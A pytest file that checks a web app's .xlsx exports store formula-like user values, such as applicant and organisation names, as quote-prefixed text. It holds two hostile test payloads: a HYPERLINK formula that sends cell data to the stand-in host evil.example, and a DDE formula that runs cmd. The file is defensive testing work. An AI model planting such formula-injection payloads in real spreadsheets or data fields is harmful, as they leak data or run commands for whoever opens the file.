"""No spreadsheet export turns user data into a formula: every .xlsx is read back with openpyxl and the
hostile values are plain text cells (not formulas), shown unchanged."""
import io
from urllib.parse import urlencode

import pytest
from openpyxl import Workbook, load_workbook

from app.extensions import db
from app.spreadsheet import append_row
from app.workflow import simulate
from tests.conftest import login

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&E2,"详情")'
DDE = "=1+cmd|' /C calc'!A0"


def _read_back(data: bytes, sheet=None):
    book = load_workbook(io.BytesIO(data))
    return book[sheet] if sheet else book.active


def _assert_text(cell, expected):
    assert cell.value == expected
    assert cell.data_type == "s", f"{expected!r} stored as {cell.data_type!r}"
    assert cell.quotePrefix, "Excel/WPS keep a quote-prefixed cell as text even when it is edited"


@pytest.mark.parametrize("write_only", [True, False])
@pytest.mark.parametrize("value", [HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(A1:A2)", "\tTAB", "\rCR", "\nLF",
                                   "\x1b=1"])
def test_formula_triggers_are_written_as_quoted_text(value, write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    append_row(sheet, [value, "普通文字", 42, -7])
    out = io.BytesIO()
    book.save(out)
    row = list(_read_back(out.getvalue(), "s" if write_only else None).iter_rows())[0]
    _assert_text(row[0], value.replace("\x1b", "\ufffd"))
    assert row[1].value == "普通文字" and not row[1].quotePrefix
    assert (row[2].value, row[2].data_type) == (42, "n") and (row[3].value, row[3].data_type) == (-7, "n")


def test_characters_xml_cannot_hold_do_not_break_the_export():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    append_row(sheet, ["张\x01三\x08"])
    out = io.BytesIO()
    book.save(out)
    assert _read_back(out.getvalue(), "s")["A1"].value == "张\ufffd三\ufffd"


def test_query_export_writes_a_hyperlink_name_as_text(app, demo):
    branch_admin = demo.users["branch1:branch_admin"]
    simulate.add_applicant(branch_admin, demo.orgs["branch1"], 1, name=HYPERLINK)
    simulate.add_applicant(branch_admin, demo.orgs["branch1"], 2, name="-王五")
    client = app.test_client()
    login(client, demo.users["county:county_admin"])
    params = urlencode([("search", "1"), ("c0_f", "person.sex"), ("c0_m", "exact"), ("c0_v", "男"),
                        ("sort", "name")])
    response = client.get("/query/export.xlsx?" + params)
    assert response.status_code == 200
    sheet = _read_back(response.data)
    assert sheet["B1"].value == "姓名"
    names = {row[1].value: row[1] for row in sheet.iter_rows(min_row=2)}
    assert set(names) == {HYPERLINK, "-王五"}
    _assert_text(names[HYPERLINK], HYPERLINK)
    _assert_text(names["-王五"], "-王五")


def test_stats_export_writes_an_organisation_name_as_text(app, demo):
    branch = demo.orgs["branch1"]
    branch.name = DDE
    db.session.commit()
    client = app.test_client()
    login(client, demo.users["county:county_admin"])
    response = client.get(f"/stats/export/sex.xlsx?org={branch.id}")
    assert response.status_code == 200
    sheet = _read_back(response.data)
    assert sheet["A2"].value == "统计范围"
    _assert_text(sheet["B2"], DDE)
